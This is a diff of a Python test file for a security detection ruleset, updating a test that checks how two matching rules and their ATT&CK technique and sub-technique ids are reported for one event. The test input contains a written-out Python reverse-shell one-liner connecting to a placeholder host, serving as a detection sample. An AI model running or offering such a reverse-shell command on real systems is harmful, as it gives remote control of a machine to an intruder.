@@ -134,13 +134,18 @@ class TestExactness:
         assert rule_ids(docs[0]) == [] and rule_ids(docs[1]) == []
 
     def test_several_hits_give_arrays_in_rule_order(self, shipped: Ruleset) -> None:
-        """An event two rules match carries both ids, as arrays in a stable order."""
+        """An event two rules match lists both in rule order; rule.* and event.* describe the most
+        severe; threat.* is the union as parallel arrays, sub-techniques under their parents."""
         ev = {"process": {"command_line": PHP + " ; python -c 'import socket,os,pty;s=socket.socket();"
                                                  "s.connect((\"h\",1));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'"}}
         docs = run_events(shipped, [ev])
         assert rule_ids(docs[0]) == [PHP_FSOCKOPEN, PYTHON_PTY]
         assert docs[0]["event"]["risk_score"] == 99
-        assert docs[0]["threat"]["technique"]["id"] == ["T1059.004", "T1059.006", "T1219", "T1105"]
+        assert docs[0]["rule"]["id"] == PHP_FSOCKOPEN  # level 15, critical; the other is high
+        technique = docs[0]["threat"]["technique"]
+        assert technique["id"] == ["T1059", "T1219", "T1105"]
+        assert technique["subtechnique"]["id"] == ["T1059.004", "T1059.006"]
+        assert technique["subtechnique"]["name"] == ["Unix Shell", "Python"]
 
 
 class TestRegexAnchors:
